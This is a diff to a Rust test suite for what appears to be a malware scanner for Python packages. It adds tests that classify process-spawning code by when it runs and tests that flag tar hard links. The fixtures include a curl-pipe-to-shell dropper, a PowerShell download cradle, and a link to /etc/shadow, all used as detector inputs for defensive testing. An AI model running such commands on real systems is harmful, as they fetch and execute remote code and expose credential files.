@@ -219,7 +219,7 @@ fn clean_wheel_reports_only_detector_findings() {
     let r = scan_bytes(&scanner, "demo-1.0-py3-none-any.whl", &good_wheel());
     assert_eq!(ids(&r), ["execution.test-process", "metadata.test-summary"]);
     let f = &r.findings[0];
-    assert_eq!(f.message, "creates a process in demo/__init__.py:1 (runtime) [subprocess], and 1 more location");
+    assert_eq!(f.message, "creates a process in demo/__init__.py:1 (import time) [subprocess], and 1 more location");
     assert_eq!(f.evidence[1].line, Some(2));
     assert_eq!(r.findings[1].evidence[0].snippet.as_deref(), Some("a demo; 4 members"));
     assert_eq!(calls.load(Ordering::Relaxed), 1, "prefilter: only the file mentioning subprocess is scanned");
@@ -419,6 +419,34 @@ fn engine_anomalies_name_the_member() {
     }
 }
 
+/// A date library's sdist hard-links identical time-zone files to one member: the bytes
+/// were scanned once, nothing points outside the archive. A hard link to a path that is not
+/// an earlier member still is a finding.
+#[test]
+fn hard_links_to_earlier_members_are_not_anomalies() {
+    let (scanner, _) = test_scanner(Limits::default());
+    let cases: [(&str, Vec<u8>, bool); 3] = [
+        (
+            "hard link to an earlier member",
+            tar_gz(&[
+                T::File(b"demo-1.0/zoneinfo/Europe/Berlin", b"TZif2"),
+                T::HardLink("demo-1.0/zoneinfo/Europe/Busingen", "demo-1.0/zoneinfo/Europe/Berlin"),
+            ]),
+            false,
+        ),
+        ("hard link outside the archive", tar_gz(&[T::HardLink("demo-1.0/hard", "/etc/shadow")]), true),
+        (
+            "hard link to a member that comes later",
+            tar_gz(&[T::HardLink("demo-1.0/a", "demo-1.0/b"), T::File(b"demo-1.0/b", b"x")]),
+            true,
+        ),
+    ];
+    for (case, bytes, want) in cases {
+        let r = scan_bytes(&scanner, "demo-1.0.tar.gz", &bytes);
+        assert_eq!(r.findings.iter().any(|f| f.detector == "anomaly.tar-link"), want, "{case}: {:#?}", r.findings);
+    }
+}
+
 #[test]
 fn zip_symlink_is_a_link_finding() {
     let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
@@ -566,7 +594,7 @@ fn threads_do_not_change_the_report() {
     assert_eq!(paths(&b, "execution.test-process")[0], "demo/m000.py", "walk order kept");
     assert_eq!(
         b.findings[0].message,
-        "creates a process in demo/m000.py:2 (runtime) [subprocess], and 199 more locations"
+        "creates a process in demo/m000.py:2 (import time) [subprocess], and 199 more locations"
     );
 }
 
@@ -1494,4 +1522,123 @@ fn disguised_bytecode_and_appended_payloads_are_found_and_blocked() {
     let r = scan_bytes(&scanner, "demo-1.0.tar.gz", &sdist);
     let f = r.findings.iter().find(|f| f.detector == "obfuscation.disguised-bytecode").expect("finding");
     assert_eq!(f.severity, Severity::Medium);
+}
+
+/// Issue 10: code that runs on import is told from code inside functions, per evidence,
+/// with the real detectors, also in files that are not valid Python (Python 2, fragments,
+/// syntax errors): they are scanned token-wise.
+#[test]
+fn evidence_role_tells_import_time_from_function_bodies_even_in_broken_files() {
+    use crate::model::FileRole::{ImportTime, InstallTime, Runtime};
+    let scanner = Scanner::new(Limits::default()).with_threads(1);
+    let dropper = "subprocess.Popen('curl -s http://203.0.113.9/x | sh', shell=True)";
+    type Case<'a> = (&'a str, &'a str, String, &'a str, crate::model::FileRole);
+    let cases: Vec<Case> = vec![
+        (
+            "module level of __init__",
+            "demo/__init__.py",
+            format!("import subprocess\n{dropper}\n"),
+            "execution.creates-process",
+            ImportTime,
+        ),
+        (
+            "inside a function",
+            "demo/__init__.py",
+            format!("import subprocess\ndef run():\n    {dropper}\n"),
+            "execution.creates-process",
+            Runtime,
+        ),
+        (
+            "class body",
+            "demo/core.py",
+            format!("import subprocess\nclass A:\n    P = {dropper}\n"),
+            "execution.creates-process",
+            ImportTime,
+        ),
+        (
+            "main guard",
+            "demo/cli.py",
+            format!("import subprocess\nif __name__ == '__main__':\n    {dropper}\n"),
+            "execution.creates-process",
+            Runtime,
+        ),
+        (
+            "__main__.py runs on python -m, not on import",
+            "demo/__main__.py",
+            format!("import subprocess\n{dropper}\n"),
+            "execution.creates-process",
+            Runtime,
+        ),
+        (
+            "python 2 module level",
+            "demo/__init__.py",
+            format!("import subprocess\nprint 'loading'\n{dropper}\n"),
+            "execution.creates-process",
+            ImportTime,
+        ),
+        (
+            "python 2 in a function",
+            "demo/__init__.py",
+            format!("import subprocess\ndef f():\n    print >>sys.stderr, 'x'\n    {dropper}\n"),
+            "execution.creates-process",
+            Runtime,
+        ),
+        (
+            "syntax error before it",
+            "demo/__init__.py",
+            format!("import subprocess\nx = = 1\ndef (:\n{dropper}\n"),
+            "execution.creates-process",
+            ImportTime,
+        ),
+        (
+            "a fragment with an unclosed bracket",
+            "demo/__init__.py",
+            format!("import subprocess\nCFG = dict(\n{dropper}\n"),
+            "execution.creates-process",
+            ImportTime,
+        ),
+        (
+            "setup.py stays install-time",
+            "setup.py",
+            format!("import subprocess\n{dropper}\n"),
+            "execution.creates-process",
+            InstallTime,
+        ),
+    ];
+    for (case, path, text, id, want) in cases {
+        let bytes = zip_of(&[(path, text.as_bytes())]);
+        let r = scan_bytes(&scanner, "demo-1.0-py3-none-any.whl", &bytes);
+        let f = r
+            .findings
+            .iter()
+            .find(|f| f.detector == id)
+            .unwrap_or_else(|| panic!("{case}: no {id} in {:#?}", r.findings));
+        assert_eq!(f.evidence[0].role, want, "{case}: {:?}", f.evidence[0]);
+    }
+}
+
+/// Issue 11: findings in documentation weigh less than in code that runs. A plugin
+/// module's YAML documentation constant that shows a download cradle is read, not run;
+/// the same cradle handed to a process is still reported at full weight.
+#[test]
+fn documentation_constants_weigh_as_data() {
+    use crate::model::Severity;
+    let scanner = Scanner::new(Limits::default()).with_threads(1);
+    let cradle = "Invoke-Expression ((New-Object Net.WebClient).DownloadString($url))";
+    let cases = [
+        ("examples constant", format!("EXAMPLES = r'''\n- win_shell: |\n    {cradle}\n'''\n"), false),
+        (
+            "passed to a process",
+            format!("import subprocess\nsubprocess.run(['powershell', '-c', \"{cradle}\"])\n"),
+            true,
+        ),
+    ];
+    for (case, text, heavy) in cases {
+        let bytes = zip_of(&[("demo/modules/win.py", text.as_bytes())]);
+        let r = scan_bytes(&scanner, "demo-1.0-py3-none-any.whl", &bytes);
+        let worst =
+            r.findings.iter().filter(|f| f.category != crate::model::Category::Metadata).map(|f| f.severity).max();
+        assert_eq!(worst.is_some_and(|s| s >= Severity::High), heavy, "{case}: {:#?}", r.findings);
+        assert!(!r.findings.is_empty() || !heavy, "{case}: still reported");
+    }
 }
